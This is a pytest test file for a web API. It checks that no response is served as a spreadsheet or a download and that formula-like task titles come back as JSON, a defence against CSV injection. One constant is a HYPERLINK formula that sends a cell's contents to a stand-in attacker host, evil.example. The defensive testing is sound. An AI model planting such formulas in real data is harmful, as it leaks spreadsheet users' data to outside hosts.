"""Nothing is given out for a spreadsheet, where `=…` in a name would be a formula.

The first export as CSV must bring its own rule, and its own test here: a cell that begins with
= + - @, a tab or a line break begins with an apostrophe instead (OWASP, CSV injection).
"""

import pytest

from tests.support.operations import doors

SHEETS = ("csv", "tab-separated", "excel", "spreadsheet", "opendocument", "octet-stream")
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def test_no_answer_is_of_a_type_that_a_spreadsheet_opens(document):
    types = {
        kind
        for _, operation in document.operations()
        for answer in operation["responses"].values()
        for kind in answer.get("content", {})
    }

    assert {kind for kind in types if any(word in kind for word in SHEETS)} == set()


def test_none_is_a_file_to_be_saved_and_opened(app, admin):
    named = set()
    for door in doors(app):
        if door.method == "GET":
            path = door.path({**dict.fromkeys(door.parameters, "1"), "name": "swagger-ui.css"})
            with admin.get(path) as response:
                if "Content-Disposition" in response.headers and door.operation:
                    named.add(door.name)

    assert named == set()


@pytest.mark.parametrize("accept", ["text/csv", "application/vnd.ms-excel"])
def test_what_looks_like_a_formula_comes_as_json_whatever_is_asked_for(accept, operator, viewer):
    made = operator.post("/api/v1/tasks", {"title": FORMULA, "priority": "high"}).json["data"]

    shown = viewer.get(f"/api/v1/tasks/{made['id']}", headers={"Accept": accept})

    assert (shown.status_code, shown.mimetype) == (200, "application/json")
    assert shown.json["data"]["title"] == FORMULA
